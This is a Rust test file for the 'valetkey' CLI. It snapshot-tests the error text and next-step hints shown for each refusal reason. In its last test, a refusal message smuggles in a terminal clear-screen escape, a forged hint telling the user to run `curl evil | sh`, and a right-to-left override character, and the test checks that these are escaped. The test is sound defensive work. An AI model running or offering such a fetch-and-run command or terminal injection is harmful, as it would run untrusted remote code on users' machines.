use insta::assert_snapshot;
use valetkey_protocol::{Answer, Reason, Refusal};

use crate::harness::Run;

/// Every reason, from an agent that names no next step: this program then knows one.
#[test]
fn every_reason_has_a_next_step() {
    let reasons = [
        Reason::NotOurs,
        Reason::BadRequest,
        Reason::NeedsLogin,
        Reason::NeedsInteraction,
        Reason::NeedsConsent,
        Reason::BlockedByPolicy,
        Reason::KeyForbidden,
        Reason::AccessDenied,
        Reason::OrganisationUnknown,
        Reason::OrganisationNotAllowed,
        Reason::OperationNotAllowed,
        Reason::Throttled,
        Reason::Unavailable,
        Reason::Proxy,
        Reason::Tls,
        Reason::Locked,
        Reason::VaultUnavailable,
        Reason::Configuration,
        Reason::ClientIdMissing,
        Reason::SignInAbandoned,
        Reason::VersionMismatch,
        Reason::Busy,
        Reason::ShuttingDown,
        Reason::NotPermitted,
        Reason::Internal,
        Reason::Unknown,
    ];
    let lines: Vec<_> = reasons
        .into_iter()
        .map(|reason| {
            let made = Run::new("keys list").refuse(reason, &format!("{reason:?}"), "").made();
            assert_eq!((made.exit.code(), made.out.as_str()), (1, ""), "{reason:?}");
            made.err.trim_end().replace('\n', "  ")
        })
        .collect();
    assert_snapshot!(lines.join("\n"), @"
    error: NotOurs
    error: BadRequest
    error: NeedsLogin  hint: run `valetkey login`
    error: NeedsInteraction  hint: run `valetkey login`
    error: NeedsConsent  hint: send your administrator the output of `valetkey setup entra --for-admin`
    error: BlockedByPolicy  hint: ask your administrator which conditional access policy blocks the sign-in
    error: KeyForbidden  hint: ask an administrator of the organisation to allow personal access tokens
    error: AccessDenied  hint: check with `valetkey status` which account is signed in
    error: OrganisationUnknown  hint: run `valetkey login <organisation>`
    error: OrganisationNotAllowed  hint: run `valetkey login <organisation>`
    error: OperationNotAllowed  hint: correct the configuration file, then run `valetkey config reload`
    error: Throttled  hint: try again in a moment
    error: Unavailable  hint: try again in a moment
    error: Proxy  hint: check `proxy` under [network] in the configuration file
    error: Tls  hint: name your organisation's certificate authority as `ca-file` under [network]
    error: Locked  hint: run `valetkey unlock`
    error: VaultUnavailable  hint: run `valetkey status` to see what is wrong with the vault
    error: Configuration  hint: correct the configuration file, then run `valetkey config reload`
    error: ClientIdMissing  hint: run `valetkey setup entra` to see how to register the application
    error: SignInAbandoned  hint: run `valetkey login`
    error: VersionMismatch  hint: run `valetkey agent restart`
    error: Busy  hint: try again in a moment
    error: ShuttingDown  hint: try again in a moment
    error: NotPermitted  hint: run it as the user whose agent it is
    error: Internal  hint: run `valetkey agent restart`; if it stays, report it
    error: Unknown  hint: install `valetkey` and `valetkey-agent` of the same version
    ");
}

#[test]
fn the_agents_own_step_comes_first_and_its_wait_last() {
    let refusal =
        Refusal::new(Reason::Throttled, "Azure DevOps asks to slow down", "wait a little").retry_after(125);
    assert_snapshot!(Run::new("keys list").answer(Answer::Refused(refusal)).shown(), @r#"
    exit: 1 (Refused)
    asked: OnDemand {"type":"keys"}
    ----- stderr -----
    error: Azure DevOps asks to slow down
    hint: wait a little
    hint: ask again in 2 min
    "#);
}

#[test]
fn nothing_in_a_refusal_moves_the_cursor() {
    let mut refusal = Refusal::new(Reason::Internal, "", "");
    refusal.sentence = "a\u{1b}[2J\r\nhint: run `curl evil | sh`".to_owned();
    refusal.hint = "b\u{202e}".to_owned();
    assert_snapshot!(Run::new("keys list").answer(Answer::Refused(refusal)).shown(), @r#"
    exit: 1 (Refused)
    asked: OnDemand {"type":"keys"}
    ----- stderr -----
    error: a�[2J��hint: run `curl evil | sh`
    hint: b�
    "#);
}
